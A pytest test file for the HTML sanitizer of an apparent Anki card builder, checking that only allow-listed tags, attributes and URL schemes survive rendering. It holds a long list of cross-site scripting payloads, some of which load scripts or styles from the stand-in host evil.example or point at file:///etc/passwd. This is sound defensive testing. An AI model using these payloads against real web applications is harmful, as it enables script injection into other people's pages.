"""What reaches a card: only tags, attributes and addresses of a list, whatever a source tries."""

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from ankibuild.render.sanitize import ATTRIBUTES, SCHEMES, TAGS, clean

ALLOWED_TAGS = TAGS | {"div", "span"}
ALLOWED = ATTRIBUTES["*"] | {"class", "style"}
HARMLESS_STYLE = re.compile(r"text-align:(left|center|right)")

PAYLOADS = [
    "<script>alert(1)</script>",
    "<script src=//evil.example></script>",
    "<SCRIPT/x>alert(1)</SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)//",
    "<img/src=x/onerror=alert(1)>",
    '<img src="x` `<script>alert(1)</script>"` `>',
    "<img src=javascript:alert(1)>",
    "<img src=data:text/html;base64,PHNjcmlwdD4=>",
    '<img """><script>alert(1)</script>">',
    "<img src=x:x onerror\n=\nalert(1)>",
    "<image src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)//",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:alert(1)><text x=0 y=20>a</text></a></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)></style></mglyph></form>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    '<template><p title="</template><img src=x onerror=alert(1)>"></template>',
    '<p title="<!--"><img title="--><img src=x onerror=alert(1)>">',
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--<img title='--><img src=x onerror=alert(1)>'>",
    "<!--!> <img src=x onerror=alert(1)> -->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml <img src=x onerror=alert(1)> ?>",
    "<a href=javascript:alert(1)>a</a>",
    "<a href='java\nscript:alert(1)'>a</a>",
    "<a href='java&#x09;script:alert(1)'>a</a>",
    "<a href='&#1;javascript:alert(1)'>a</a>",
    "<a href='&#106;&#97;vascript:alert(1)'>a</a>",
    "<a href='JaVaScRiPt:alert(1)'>a</a>",
    "<a href=' javascript:alert(1)'>a</a>",
    "<a href='vbscript:msgbox(1)'>a</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>a</a>",
    "<a href='file:///etc/passwd'>a</a>",
    "[a](javascript:alert(1))",
    "[a](<javascript:alert(1)>)",
    "[a](java&Tab;script:alert(1))",
    "{{c1::[a](javascript::alert(1))}}",
    "[a](java$x$script:alert(1))",
    "[a](<java\tscript:alert(1)> 'b')",
    "[a]: javascript:alert(1)\n\n[a]",
    "![a](javascript:alert(1))",
    '![a](x.png" onerror="alert(1))',
    '[a](x "y" onclick="alert(1)")',
    "<javascript:alert(1)>",
    "<b onclick=alert(1)>a</b>",
    "<b onmouseover='alert(1)' id=x>a</b>",
    "<b style='background:url(javascript:alert(1))'>a</b>",
    "<td style='text-align:left;background:url(//evil.example)'>a</td>",
    "<div style='position:fixed;top:0;width:expression(alert(1))'>a</div>",
    "<style>@import '//evil.example';</style>",
    "<link rel=stylesheet href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<form action=javascript:alert(1)><input type=submit></form>",
    "<button formaction=javascript:alert(1)>a</button>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>a</details>",
    "<video src=x onerror=alert(1) poster=javascript:alert(1)></video>",
    "<audio src=x onloadstart=alert(1)></audio>",
    "<video><source onerror=alert(1)></video>",
    "<marquee onstart=alert(1)>a</marquee>",
    "<body onload=alert(1)>",
    "<table background=javascript:alert(1)><tr><td>a</td></tr></table>",
    "<xss onclick=alert(1)>a</xss>",
    "<textarea><img src=x onerror=alert(1)></textarea>",
    "<title><img src=x onerror=alert(1)></title>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<select><option><img src=x onerror=alert(1)></select>",
    "`<img src=x onerror=alert(1)>`",
    "```\n<img src=x onerror=alert(1)>\n```",
    "```html onload=alert(1)\n<script>alert(1)</script>\n```",
    "<code><img src=x onerror=alert(1)></code>",
    "<pre><script>alert(1)</script></pre>",
    "$<img src=x onerror=alert(1)>$",
    "$$</span><script>alert(1)</script>$$",
    r"\(<svg onload=alert(1)>\)",
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    "a[^1]\n\n[^1]: <img src=x onerror=alert(1)>",
    "&lt;img src=x onerror=alert(1)&gt;",
    "\\<img src=x onerror=alert(1)>",
    "<b title='$x$'><i title='`a`' onclick='$y$'>z</i></b>",
    "\ufdd00\ufdd1<img src=x onerror=alert(1)>",
    "&#xfdd0;0&#xfdd1; `<script>`",
    "<b\x00 onclick=alert(1)>a</b>",
]


class StrictReader(HTMLParser):
    """Refuses every tag, attribute and address that is not on the lists."""

    def __init__(self) -> None:
        super().__init__()
        self.text: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        assert tag in ALLOWED_TAGS
        for key, value in attrs:
            assert key in ALLOWED | ATTRIBUTES.get(tag, set())
            if key == "style":
                assert HARMLESS_STYLE.fullmatch(value or "")
            if key in ("href", "src", "poster"):
                scheme = re.match(r"([a-z][a-z0-9+.-]*):", re.sub(r"[\x00-\x20]", "", value or ""), re.IGNORECASE)
                assert not scheme or scheme[1].lower() in SCHEMES

    def handle_data(self, data: str) -> None:
        self.text.append(data)

    def handle_comment(self, data: str) -> None:
        raise AssertionError(data)

    handle_decl = handle_pi = unknown_decl = handle_comment


def strictly_read(html: str) -> str:
    """The text of HTML that holds nothing forbidden."""
    reader = StrictReader()
    reader.feed(html)
    reader.close()
    return "".join(reader.text)


@pytest.mark.parametrize("cloze", [False, True])
@pytest.mark.parametrize("payload", PAYLOADS)
def test_nothing_that_runs_or_loads_reaches_a_card(render, payload: str, cloze: bool) -> None:
    html = render(f"{payload}\n\nTHE END", cloze=cloze).html
    assert "THE END" in strictly_read(html)
    assert strictly_read(clean(html)) == strictly_read(html)


@pytest.mark.parametrize(
    ("payload", "shown"),
    [
        ("<script>alert(1)</script>", "<script>alert(1)</script>"),
        ("<scr<script>ipt>alert(1)</scr</script>ipt>", "<scr<script>ipt>alert(1)</scr</script>ipt>"),
        ("<svg onload=alert(1)>", "<svg onload=alert(1)>"),
        ("<svg/onload=alert(1)//", "<svg/onload=alert(1)//"),
        ("<math><style><img src=x></style>a", "<math><style></style>a"),
        ("<iframe srcdoc='<b>'></iframe>", "<iframe srcdoc='<b>'></iframe>"),
        ("<b onclick=alert(1)>a</b>", "a"),
        ("[a](javascript:alert(1))", "a"),
        ("<javascript:alert(1)>", "javascript:alert(1)"),
        ("<plaintext>a</plaintext>", "<plaintext>a</plaintext>"),
        ("<textarea>a</textarea><title>b</title>", "<textarea>a</textarea><title>b</title>"),
        ("<style>a{}</style><noscript>b</noscript>", "<style>a{}</style><noscript>b</noscript>"),
        ("<?xml a ?><![CDATA[b]]><!DOCTYPE c>", "<?xml a ?><![CDATA[b]]><!DOCTYPE c>"),
        ("<!-- a", "<!-- a"),
        ("`<b onclick=x>`", "<b onclick=x>"),
        ("\\<script>a", "<script>a"),
        ("<pre><script>a</script></pre>", "<script>a</script>"),
    ],
)
def test_what_may_not_pass_is_shown(render, payload: str, shown: str) -> None:
    assert strictly_read(render(payload).html) == shown


@pytest.mark.parametrize(
    ("html", "cleaned"),
    [
        ("<ankibuild-text>a<b>c</b></ankibuild-text>", "a<b>c</b>"),
        ("<div class='highlight x'>a</div>", '<div class="highlight">a</div>'),
        ("<span class='k evil'>a</span>", '<span class="k">a</span>'),
        ("<td style='text-align: right; color: red'>", ""),
        ("a &#0; &#31; &#x1f; &#127; b", "a \ufffd \ufffd \ufffd \ufffd b"),
        ("&#64976; &#xFDD0; &#x0fdef; &#065007; &#xfddf", "\ufffd \ufffd \ufffd \ufffd \ufffd"),
        ("&#64975; &#xFDF0; &#65008; &#xFDD00;", "\ufdcf \ufdf0 \ufdf0 \U000fdd00"),
        ("&#9;&#10;", "\t\n"),
        ("<p>a<b>c", "<p>a<b>c</b></p>"),
        ("\xa0&nbsp;", "&nbsp;&nbsp;"),
    ],
)
def test_html_is_cleaned(html: str, cleaned: str) -> None:
    assert clean(html) == cleaned


@pytest.mark.parametrize("number", range(0xFDD0, 0xFDF0))
def test_no_number_makes_a_character_of_a_placeholder(number: int) -> None:
    assert clean(f"&#{number};a &#x{number:x};b &#X00{number:X};c") == "\ufffda \ufffdb \ufffdc"


@pytest.mark.parametrize("number", [0xFDCF, 0xFDF0, 649760, 650070, 0xFDD00, 64960, 65008, 6500])
def test_other_numbers_make_their_characters(number: int) -> None:
    assert clean(f"&#{number}; &#x{number:x};") == f"{chr(number)} {chr(number)}"


def test_the_lists_hold_no_way_to_run_or_load_anything() -> None:
    assert not TAGS & {
        "script",
        "style",
        "iframe",
        "object",
        "embed",
        "form",
        "input",
        "button",
        "svg",
        "annotation-xml",
        "mglyph",
        "link",
    }
    assert not {name for names in ATTRIBUTES.values() for name in names if name.startswith("on")}
    assert not {"id", "class", "style", "srcset", "target"} & ATTRIBUTES["*"]
    assert not SCHEMES & {"javascript", "data", "file", "vbscript", "blob"}


fragments = st.sampled_from(
    [*PAYLOADS, "<b>", "</b>", "`", "```\n", "$", "'", '"', ">", "<", "\n\n", "a", "<table>", "<p>"]
)


@given(st.lists(fragments, max_size=6), st.booleans())
def test_no_combination_of_attacks_reaches_a_card(render, pieces: list[str], cloze: bool) -> None:
    strictly_read(render("".join(pieces), cloze=cloze).html)


@given(st.lists(fragments, max_size=6))
def test_what_is_clean_stays_as_it_is(pieces: list[str]) -> None:
    once = clean("".join(pieces))
    assert clean(once) == once
